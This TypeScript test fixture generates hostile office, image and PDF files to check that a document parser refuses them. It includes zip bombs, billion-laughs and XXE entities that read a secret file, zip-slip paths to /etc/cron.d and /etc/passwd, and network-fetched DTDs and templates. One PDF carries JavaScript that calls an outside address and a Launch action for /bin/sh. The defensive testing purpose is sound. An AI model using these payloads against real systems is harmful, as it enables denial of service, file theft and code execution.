import { deflateSync } from 'node:zlib';
import type { UnreadReason } from '../../../server/domain/comparison.ts';
import { docxOf, paragraph, table } from './docx-of.ts';
import { cell, odfOf, p, row, sheet } from './odf-of.ts';
import { pdfOf } from './pdf-of.ts';
import { pngFile, pngOf } from './png-of.ts';
import { pptxOf } from './pptx-of.ts';
import { xlsxOf } from './xlsx-of.ts';
import { contentTypes, relationships, XML } from './xml.ts';
import { zipOf } from './zip-of.ts';

/** A document that somebody made to do harm; made when it is needed, since some are large. */
export interface Hostile {
  readonly name: string;
  readonly make: () => Buffer;
  /** Why it is not read, one of these; absent where it is read, and is harmless. */
  readonly unread?: readonly UnreadReason[];
}

const MIB = 1 << 20;
const zeros = (mib: number): Buffer => Buffer.alloc(mib * MIB, 32);
const word = (document: string | Uint8Array, more: Record<string, string | Uint8Array> = {}): Buffer =>
  zipOf({
    '[Content_Types].xml': contentTypes('word/document.xml', 'wordprocessingml.document'),
    'word/document.xml': document,
    ...more,
  });
const body = (inner: string, before = ''): string =>
  `${XML}${before}<w:document xmlns:w="w"><w:body>${inner}</w:body></w:document>`;
const rtf = (text: string): Buffer => Buffer.from(`{\\rtf1 ${text}}`);
const flate = (content: Uint8Array): string => {
  const packed = deflateSync(content, { level: 9 });
  return `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed.toString('latin1')}\nendstream`;
};

/** All of them. What they name outside is below `address`, which must never be asked, and `secret`, a file that must never be read. */
export function hostileDocuments({
  address,
  secret,
}: {
  readonly address: string;
  readonly secret: string;
}): readonly Hostile[] {
  const laughs = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
  return [
    { name: 'a part that unpacks to 140 MiB', make: () => word(zeros(140)), unread: ['too_large'] },
    { name: 'the same, which says that it has ten bytes', make: () => word2({ size: 10 }), unread: ['too_large'] },
    {
      name: 'parts that unpack to 160 MiB together',
      make: () =>
        word(body(''), Object.fromEntries(Array.from({ length: 4 }, (_, i) => [`word/header${i}.xml`, zeros(40)]))),
      unread: ['too_large', 'damaged'],
    },
    {
      name: 'a zip in a zip in a zip',
      make: () => zipOf({ 'a.zip': zipOf({ 'b.zip': zipOf({ c: zeros(1) }) }) }),
      unread: ['binary'],
    },
    {
      name: 'a zip of 30,000 parts',
      make: () => zipOf(Object.fromEntries(Array.from({ length: 30_000 }, (_, i) => [`f${i}`, '']))),
      unread: ['too_many'],
    },
    {
      name: 'parts whose names lead out',
      make: () => word(body(paragraph('x')), { '../../../etc/cron.d/x': 'x', '/etc/passwd': 'x' }),
    },
    {
      name: 'a billion laughs',
      make: () => word(body('<w:p><w:r><w:t>&l10;</w:t></w:r></w:p>', `<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>`)),
      unread: ['damaged'],
    },
    {
      name: 'one long entity used often',
      make: () =>
        word(
          body(
            `<w:p><w:r><w:t>${'&a;'.repeat(20_000)}</w:t></w:r></w:p>`,
            `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`,
          ),
        ),
      unread: ['damaged'],
    },
    {
      name: 'an entity that is a file',
      make: () =>
        word(body('<w:p><w:r><w:t>&f;</w:t></w:r></w:p>', `<!DOCTYPE x [<!ENTITY f SYSTEM "file://${secret}">]>`)),
      unread: ['damaged'],
    },
    {
      name: 'a document type from the network',
      make: () => word(body(paragraph('x'), `<!DOCTYPE x SYSTEM "${address}/x.dtd">`)),
    },
    {
      name: 'links and a template on the network',
      make: () =>
        docxOf(
          ['x'],
          { 'word/_rels/settings.xml.rels': relationships([`t1 attachedTemplate ${address}/t.dotm External`]) },
          [`${address}/link`, `file://${secret}`],
        ),
    },
    {
      name: 'relationships that lead out of the package',
      make: () =>
        word(body(paragraph('x')), {
          '_rels/.rels': relationships(['r1 officeDocument ../../../../../../etc/passwd']),
        }),
      unread: ['damaged'],
    },
    {
      name: 'macros',
      make: () => docxOf(['x'], { 'word/vbaProject.bin': 'AutoOpen', 'word/activeX/activeX1.bin': 'x' }),
    },
    {
      name: '100,000 elements within each other',
      make: () => word(body(`${'<w:p>'.repeat(100_000)}`)),
      unread: ['too_deep'],
    },
    {
      name: '60 tables within each other',
      make: () =>
        docxOf([
          Array.from({ length: 60 }).reduce<string>(
            (inner) => `<w:tbl><w:tr><w:tc>${inner}</w:tc></w:tr></w:tbl>`,
            paragraph('deep'),
          ),
        ]),
    },
    {
      name: 'an element with 200,000 attributes',
      make: () => word(body(`<w:p ${Array.from({ length: 200_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`)),
    },
    {
      name: 'a word of 40 million letters',
      make: () => word(body(`<w:p><w:r><w:t>${'a'.repeat(40 * 1e6)}</w:t></w:r></w:p>`)),
      unread: ['too_large', 'memory'],
    },
    {
      name: 'a million paragraphs',
      make: () => word(body('<w:p><w:r><w:t>a</w:t></w:r></w:p>'.repeat(1e6))),
      unread: ['too_many'],
    },
    { name: 'XML that ends in the middle', make: () => word(body(paragraph('x')).slice(0, -20)), unread: ['damaged'] },
    {
      name: 'a presentation whose slides are each other',
      make: () =>
        pptxOf([{ title: 'x' }], {
          'ppt/slides/_rels/slide1.xml.rels': relationships(['n1 notesSlide ../slides/slide1.xml']),
        }),
    },
    {
      name: 'cells and strings that cannot be',
      make: () =>
        xlsxOf(
          { S: [['x']] },
          {
            parts: {
              'xl/worksheets/sheet1.xml':
                '<worksheet><sheetData><row r="99999999999"><c r="ZZZ99999999" t="s"><v>1e300</v></c><c t="s"><v>-1</v></c><c><v>NaN</v></c></row></sheetData></worksheet>',
            },
          },
        ),
    },
    {
      name: 'a row repeated a billion times',
      make: () =>
        odfOf(
          'spreadsheet',
          sheet('S', [
            row([cell('x', 'table:number-columns-repeated="1000000000"')], 'table:number-rows-repeated="1000000000"'),
          ]),
        ),
      unread: ['too_many', 'too_large'],
    },
    { name: 'a billion blanks', make: () => odfOf('text', p('a<text:s text:c="1000000000"/>b')) },
    {
      name: 'an encrypted part',
      make: () =>
        zipOf(
          { '[Content_Types].xml': contentTypes('word/document.xml', 'wordprocessingml.document') },
          { encrypted: true },
        ),
      unread: ['encrypted'],
    },
    {
      name: 'an OpenDocument file with a password',
      make: () =>
        odfOf('text', 'x', {
          parts: { 'META-INF/manifest.xml': '<manifest><file-entry><encryption-data/></file-entry></manifest>' },
        }),
      unread: ['encrypted'],
    },
    {
      name: 'an unknown way of packing',
      make: () => zipOf({ '[Content_Types].xml': 'x' }, { method: 99 }),
      unread: ['unsupported'],
    },
    {
      name: 'a part with another sum',
      make: () => zipOf({ '[Content_Types].xml': 'x' }, { sum: 1 }),
      unread: ['damaged'],
    },
    { name: 'a zip that is cut off', make: () => docxOf(['x']).subarray(0, 300), unread: ['damaged'] },
    {
      name: 'an old office file',
      make: () => Buffer.from(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(600)}`, 'latin1'),
      unread: ['legacy_format'],
    },
    {
      name: '100,000 groups of rich text within each other',
      make: () => rtf('{'.repeat(100_000)),
      unread: ['too_deep'],
    },
    { name: 'rich text with binary data beyond its end', make: () => rtf('a\\par\\bin999999999 x') },
    {
      name: 'rich text with numbers out of range',
      make: () => rtf('\\uc999999999\\u99999999 a\\f-1\\ansicpg7\\par\\li99999999999999999999'),
    },
    {
      name: 'a picture that says it has 10 billion pixels',
      make: () => pngFile(100_000, 100_000, deflateSync(Buffer.alloc(10))),
      unread: ['too_large'],
    },
    {
      name: 'a picture whose pixels are cut off',
      make: () => pngOf(200, 200, (x, y) => [x, y, 0]).subarray(0, 200),
    },
    {
      name: 'a JPEG of empty segments',
      make: () => Buffer.from(`\xff\xd8\xff${'\xe0\0\0\xff'.repeat(50_000)}`, 'latin1'),
      unread: ['damaged'],
    },
    { name: 'a PDF that is cut off', make: () => pdfOf([['x']]).subarray(0, 120), unread: ['damaged'] },
    {
      name: 'a PDF with a password',
      make: () =>
        pdfOf([['x']], {
          trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >> /ID [<00> <00>]`,
        }),
      unread: ['encrypted'],
    },
    {
      name: 'pages that are each other',
      make: () => pdfOf([['x']], { objects: { 2: '<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>' } }),
      unread: ['damaged', 'timeout', 'memory', 'crashed'],
    },
    {
      name: 'a PDF that says it has a billion pages',
      make: () => pdfOf([['x']], { objects: { 2: '<< /Type /Pages /Count 1000000000 /Kids [5 0 R] >>' } }),
    },
    {
      name: 'a PDF with scripts, a program to start and a form that is sent',
      make: () =>
        pdfOf([['x']], {
          catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${address}"\\)) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >>`,
          page: `/AA << /O << /S /URI /URI (${address}) >> >>`,
        }),
    },
    {
      name: 'a PDF whose page unpacks to 300 MiB',
      make: () => pdfOf(['%'], { objects: { 4: flate(zeros(300)) } }),
    },
    {
      name: 'a drawing that draws itself',
      make: () =>
        pdfOf(['/X Do'], {
          page: '/Resources << /XObject << /X 1000 0 R >> >>',
          objects: {
            1000: '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 1000 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream',
          },
        }),
    },
    { name: 'a page of a billion points', make: () => pdfOf(['0 0 9 9 re f'], { pageSize: '[0 0 1000000000 1]' }) },
    {
      name: 'a main part on the network',
      make: () => word(body(''), { '_rels/.rels': relationships([`r1 officeDocument ${address}/x.xml External`]) }),
      unread: ['damaged'],
    },
    {
      name: 'elements with the names of what every object has',
      make: () => odfOf('text', `<constructor>${p('x')}</constructor><toString/><valueOf/><__proto__/>`),
    },
    {
      name: 'a PDF whose page is a file',
      make: () => pdfOf(['x'], { objects: { 4: `<< /Length 0 /F (${secret}) >>\nstream\n\nendstream` } }),
    },
    {
      name: 'a PDF whose page is on the network',
      make: () =>
        pdfOf(['x'], { objects: { 4: `<< /Length 0 /F << /FS /URL /F (${address}/page) >> >>\nstream\n\nendstream` } }),
    },
    {
      name: 'a PDF of 2,000 filters on each other',
      make: () =>
        pdfOf(['x'], {
          objects: { 4: `<< /Length 1 /Filter [${'/ASCIIHexDecode '.repeat(2000)}] >>\nstream\nx\nendstream` },
        }),
    },
    {
      name: 'a PDF with 20,000 comments that are one',
      make: () =>
        pdfOf([['x']], {
          page: `/Annots [${'1000 0 R '.repeat(20_000)}]`,
          objects: { 1000: '<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (x) >>' },
        }),
    },
    {
      name: 'a table of 300 columns and 300 rows of the same',
      make: () => docxOf([table(Array.from({ length: 300 }, () => Array.from({ length: 300 }, () => 'x')))]),
    },
  ];
}

const word2 = (lies: { readonly size: number }): Buffer =>
  zipOf(
    {
      '[Content_Types].xml': contentTypes('word/document.xml', 'wordprocessingml.document'),
      'word/document.xml': zeros(140),
    },
    lies,
  );
